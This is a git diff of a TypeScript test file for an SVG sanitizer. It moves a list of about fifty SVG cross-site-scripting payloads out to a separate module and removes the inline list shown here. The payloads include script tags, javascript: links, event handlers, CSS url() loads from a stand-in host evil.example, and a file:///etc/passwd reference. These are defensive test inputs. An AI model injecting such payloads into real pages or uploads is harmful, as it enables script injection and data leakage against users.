@@ -3,6 +3,7 @@ import { suite, test } from 'node:test';
 import fc from 'fast-check';
 import { StewardError } from '../../errors/errors.ts';
 import { svg as bytesOf } from '../test/some-pictures.ts';
+import { ATTACKS } from '../test/svg-attacks.ts';
 import { ELEMENTS } from './allowed.ts';
 import { cleanSvg } from './svg.ts';
 
@@ -26,62 +27,6 @@ function assertHarmless(svg: string): void {
   }
   assert.doesNotMatch(body ?? '', /<!|<\?|&(?!amp;|lt;|gt;|quot;)/);
 }
-
-const ATTACKS: readonly string[] = [
-  '<script>alert(1)</script>',
-  '<script type="text/javascript"><![CDATA[alert(1)]]></script>',
-  '<script xlink:href="https://evil.example/x.js" xmlns:xlink="http://www.w3.org/1999/xlink"/>',
-  '<script href="data:text/javascript,alert(1)"/>',
-  '<SCRIPT>alert(1)</SCRIPT>',
-  '<s:script xmlns:s="http://www.w3.org/2000/svg">alert(1)</s:script>',
-  '<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script>',
-  '<h:img xmlns:h="http://www.w3.org/1999/xhtml" src="x" onerror="alert(1)"/>',
-  '<rect onload="alert(1)" onclick="alert(1)" ONMOUSEOVER="alert(1)" width="5" height="5"/>',
-  '<g onbegin="alert(1)" onfocusin="alert(1)" tabindex="0" autofocus="true"><rect width="5" height="5"/></g>',
-  '<foreignObject width="9" height="9"><body xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></body></foreignObject>',
-  '<switch><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert(1)"/></foreignObject><rect/></switch>',
-  '<a href="javascript:alert(1)"><circle r="9"/></a>',
-  '<a xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="java&#10;script:alert(1)"><circle r="9"/></a>',
-  '<a href="&#106;avascript:alert(1)"><circle r="9"/></a>',
-  '<use href="data:image/svg+xml;base64,PHN2Zz48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+#x"/>',
-  '<use href="https://evil.example/x.svg#x"/>',
-  '<use href=" https://evil.example/x.svg#x"/><use href="//evil.example#x"/><use href="/x.svg#x"/>',
-  '<image href="https://evil.example/pixel.png" width="9" height="9"/>',
-  '<image href="file:///etc/passwd"/>',
-  '<feImage href="https://evil.example/x"/><filter id="f"><feImage href="#x"/></filter>',
-  '<animate attributeName="href" values="javascript:alert(1)"/>',
-  '<a id="a"><set attributeName="href" to="javascript:alert(1)"/><circle r="9"/></a>',
-  '<animateTransform attributeName="transform" onbegin="alert(1)"/><animateMotion onend="alert(1)"/>',
-  '<discard onbegin="alert(1)"/><handler type="text/javascript">alert(1)</handler><listener event="click"/>',
-  '<style>@import url(https://evil.example/x.css); rect{fill:url(https://evil.example/#x)}</style><rect width="5" height="5"/>',
-  '<style>@font-face{font-family:x;src:url(https://evil.example/x.woff)} text{font-family:x}</style><text>a</text>',
-  '<style>rect{fill:url("javascript:alert(1)");-moz-binding:url(x);behavior:url(x)}</style><rect/>',
-  '<style>*{background:url(//evil.example)} rect[fill^="a"]{fill:url(//evil.example/a)}</style><rect/>',
-  '<style>rect{fill:red}</style><style>/*</style><img src=x onerror=alert(1)>*/</style><rect/>'.replace(
-    '<img src=x onerror=alert(1)>',
-    '',
-  ),
-  '<rect style="fill:url(https://evil.example/#x);width:expression(alert(1));background:url(x)"/>',
-  '<rect style="fill:u\\72l(https://evil.example)" fill="u\\72l(x)"/>',
-  '<rect fill="url(https://evil.example/#x)" mask="url(//evil.example#m)" filter="url(data:x#f)" clip-path="url( x#c )"/>',
-  '<rect fill="url(&quot;https://evil.example/#x&quot;)" stroke="URL( https://evil.example )"/>',
-  '<rect fill="url(#a) url(https://evil.example)" cursor="url(https://evil.example), auto"/>',
-  '<rect fill="url(#a&quot;/>&lt;script&gt;alert(1)&lt;/script&gt;)"/>',
-  '<rect id="&quot; onload=&quot;alert(1)"/><rect id="a b"/><rect id="&lt;script&gt;"/>',
-  '<text>&lt;script&gt;alert(1)&lt;/script&gt;</text><title>&lt;img src=x onerror=alert(1)&gt;</title>',
-  '<text><![CDATA[</text><script>alert(1)</script>]]></text>',
-  '<desc>]]&gt;<!-- --&gt;<script>alert(1)</script>--></desc>',
-  '<metadata><script>alert(1)</script></metadata><iframe src="javascript:alert(1)"/><embed src="x"/><object data="x"/>',
-  '<video src="https://evil.example"/><audio src="x" onerror="alert(1)"/><canvas/>',
-  '<math href="javascript:alert(1)"><mi>x</mi></math><noscript><p title="&lt;/noscript&gt;&lt;img src=x onerror=alert(1)&gt;"/></noscript>',
-  '<xmp><p title="&lt;/xmp&gt;&lt;svg/onload=alert(1)&gt;"/></xmp><template><script>alert(1)</script></template>',
-  '<tspan font-family="x&quot;;}</style><script>alert(1)</script>"/>'.replace('</style><script>alert(1)</script>', ''),
-  '<font-face-uri href="https://evil.example/x.svg#f"/><font><font-face><font-face-src><font-face-uri href="x"/></font-face-src></font-face></font>',
-  '<?xml-stylesheet href="https://evil.example/x.css"?><rect width="5" height="5"/>',
-  '<rect xml:base="https://evil.example/" xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="click"/>',
-  '<linearGradient id="g" href="https://evil.example/#g"/><pattern href="x"/><cursor href="x"/><mpath href="x"/>',
-  '<__proto__ onload="alert(1)"/><rect __proto__="x" constructor="y"/>',
-];
 
 suite('what comes in', () => {
   for (const attack of ATTACKS)
